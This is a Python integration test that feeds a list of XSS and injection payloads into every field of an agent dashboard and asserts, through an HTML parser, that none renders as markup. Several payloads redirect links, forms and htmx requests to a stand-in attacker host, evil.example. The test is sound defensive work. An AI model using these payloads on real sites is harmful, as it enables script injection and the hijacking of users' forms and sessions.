"""Text that would like to be markup, through every field that people, files, agents and models can fill.

Every page that can be reached by links is read with a parser, and judged by what a browser would make of it, not by
what the text was: no element and no attribute that runs, no address that leads elsewhere.
"""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import httpx2
import msgspec
from tests.integration.dashboard.test_pages import Site, open_site
from tests.integration.runtime.fleets import agent, at_once
from tests.leaks import run, until

from ezaigents.agents import Context, Declared, NeedsApproval, TaskFailed
from ezaigents.agents.model.journal import Answered, Asked, Began, Did, Journal, Tried, TryRow
from ezaigents.codec import printable
from ezaigents.providers.transcript import Reply, Stop, Text
from ezaigents.records import AgentCard, Claim, Result
from ezaigents.settings import Settings

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</title></textarea></code></pre><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1) "y")',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<base href="http://evil.example/"><form action="http://evil.example">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<div hx-get="http://evil.example" hx-trigger="load" data-post="/api/leave">',
    "<!--<script>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "&#60;script&#62;&lt;b&gt;",
    "\x1b[2J\u202e<b>",
)
RUNS = frozenset({
    "applet", "audio", "base", "embed", "iframe", "img", "math", "noscript", "object", "style", "svg", "template",
    "video",
})  # fmt: skip
"""Elements that our pages have none of, but for charts; `script` and `link` are looked at by their address."""
ADDRESSES = frozenset({"action", "data-post", "data-then", "formaction", "href", "hx-get", "hx-post", "src"})
SHOWN_FIELDS = ("title", "prompt", "summary", "error", "question", "patch", "answer", "tool", "try", "able")


def _text(field: str, payload: str) -> str:
    return f"{field}:{payload}"


class _Page(HTMLParser):
    """What a browser would make of a page: its words, its links, and what is wrong with it."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.links: set[str] = set()
        self.wrong: list[str] = []
        self._in_script = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self._in_script = tag == "script"
        is_chart = tag == "svg" and given.get("class") == "chart"
        if (tag in RUNS and not is_chart) or (tag == "meta" and "http-equiv" in given):
            self.wrong.append(tag)
        if tag in ("script", "link") and not (given.get("src") or given.get("href") or "").startswith("/static/"):
            self.wrong.append(f"{tag} {given}")
        for name, value in given.items():
            if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc"):
                self.wrong.append(f"{tag} {name}")
            if name in ADDRESSES and not (value.startswith(("/", "#", "?")) and not value.startswith("//")):
                self.wrong.append(f"{tag} {name}={value}")
        if tag == "a" and given.get("href", "").startswith("/"):
            self.links.add(given["href"].partition("#")[0])

    def handle_data(self, data: str) -> None:
        self.words.append(data)
        if self._in_script and data.strip():
            self.wrong.append(f"inline script {data[:40]}")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data[:40]}")


class _Hostile:
    """Says a payload, the one whose number the title has, wherever it can; and writes a model's journal full of it."""

    async def run(self, claim: Claim, context: Context) -> Result:
        word, number = claim.title.split()[:2]
        payload = PAYLOADS[int(number)]
        folder = context.settings.home_path / "tasks" / claim.id
        _write_journal(folder / str(claim.fence), payload)
        if word == "fail":
            raise TaskFailed(_text("error", payload))
        if word == "ask":
            raise NeedsApproval.about("command", _text("question", payload))
        words = _text("patch", payload)
        lines = f"diff --git a/x b/{words}\n--- a/x\n+++ b/{words}\n@@ -1 +1 @@ {words}\n-{words}\n+{words}\n"
        (folder / "patch.diff").write_text(lines, "utf-8")
        return Result(summary=_text("summary", payload), patch=f"tasks/{claim.id}/patch.diff")

    async def close(self) -> None:
        """Nothing to let go of."""


def _write_journal(folder: Path, payload: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    journal = Journal(folder)
    parts = (Text(_text("answer", payload)),)
    tried = TryRow(route=payload, outcome="refused", message=_text("try", payload))
    journal.append(
        Began(at_ms=1, attempt=1, follows={}),
        Asked(1, _text("asked", payload)),
        Tried(1, 1, (tried,)),
        Answered(2, 1, Reply(id=payload, route=payload, model=payload, parts=parts, stop=Stop.END), 0, (tried,)),
        Did(at_ms=3, call="c", text=_text("tool", payload), failed=True),
    )
    journal.close()


async def _visit(site: Site, first: list[str]) -> dict[str, _Page]:
    """Every page that links lead to, whole and as the part that is read again."""
    pages: dict[str, _Page] = {}
    waiting = list(first)
    while waiting:
        path = waiting.pop()
        if path in pages or path.startswith("/static/"):
            continue
        answer = await site.get(path)
        assert "text/html" in answer.headers["content-type"], path
        assert "default-src 'self'" in answer.headers["content-security-policy"]
        pages[path] = _Page(answer.text)
        live = _Page((await site.get(path, **{"HX-Request": "true"})).text)
        assert not live.wrong, (path, live.wrong)
        waiting += sorted(pages[path].links)
    return pages


def _file_name(payload: str) -> str:
    return payload.replace("/", "\u2215") + ".py"


async def _fill(site: Site, settings: Settings) -> list[str]:
    """Tasks that ended, failed and ask, and jobs over files, with each payload; returns their ids."""
    ids = []
    for number, payload in enumerate(PAYLOADS):
        name = _file_name(payload)
        (settings.workspace_path / name).write_text("x\n")
        job = {"prompt": _text("prompt", payload), "agent": "b", "paths": [name]}
        handed = await site.http.post(
            "/api/tasks", json=job, headers={"origin": str(site.http.base_url), "ez-request": "1"}
        )
        assert handed.status_code == 201, handed.text
        ids += [row["id"] for row in handed.json()["tasks"]]
        for word in ("plain", "fail", "ask"):
            ids += await site.yard.hand_in(1, title=f"{word} {number} {_text('title', payload)}", max_attempts=1)
    return ids


def test_what_is_said_never_becomes_markup(settings: Settings) -> None:
    """Titles, prompts, file names, questions, errors, summaries, patches, what models and tools said, what an agent
    can do, what was searched: each is shown, and none becomes an element, an attribute or an address.
    """
    able = AgentCard(name="a", capabilities=tuple(_text("able", payload) for payload in PAYLOADS))

    async def story() -> None:
        async with open_site(
            settings,
            Declared(able, lambda _: _Hostile()),
            agent(at_once, "b"),
        ) as site:
            ids = await _fill(site, settings)

            async def settled() -> bool:
                return all(task.state.terminal or task.asks for task in await site.yard.queue.tasks(ids))

            await until(settled)
            said = [quote(payload, safe="") for payload in PAYLOADS]
            first = ["/", "/new", "/problems", *(f"/tasks/{one}" for one in ids)]
            first += [f"/tasks?{field}={one}" for one in said for field in ("q", "agent")]
            pages = await _visit(site, first)
            for path, page in pages.items():
                assert not page.wrong, (path, page.wrong)
            words = "\n".join(word for page in pages.values() for word in page.words)
            lost = [
                _text(field, payload)
                for field in SHOWN_FIELDS
                for payload in PAYLOADS
                if _text(field, payload) not in words and _text(field, printable(payload)) not in words
            ]
            assert not lost, "never shown, so nothing is proven of them"
            for path in (f"/{field}{one}" for one in said for field in ("", "tasks/", "tasks?state=", "tasks?cursor=")):
                refused = await site.get(path, accept="text/html")
                assert refused.status_code >= 400, path
                assert not _Page(refused.text).wrong, path

    run(story())


def test_the_judge_sees_what_runs() -> None:
    """Without escaping, what is markup would be found: the test above proves something."""
    harmless = {PAYLOADS[number] for number in (7, 12, 13, 14, 15)}
    for payload in PAYLOADS:
        places = (f"<p>{payload}</p>", f'<p title="{payload}">', f"<p title='{payload}'>")
        assert any(_Page(place).wrong for place in places) or payload in harmless, payload


def test_a_page_may_not_run_what_slipped_through(settings: Settings) -> None:
    """The policy of every page allows no inline script, no other origin, no frame around it and no other target."""

    async def story() -> None:
        async with open_site(msgspec.structs.replace(settings)) as site:
            answer: httpx2.Response = await site.get("/")
            policy = answer.headers["content-security-policy"]
            assert policy.split("; ") == [
                "default-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'",
            ]  # fmt: skip

    run(story())
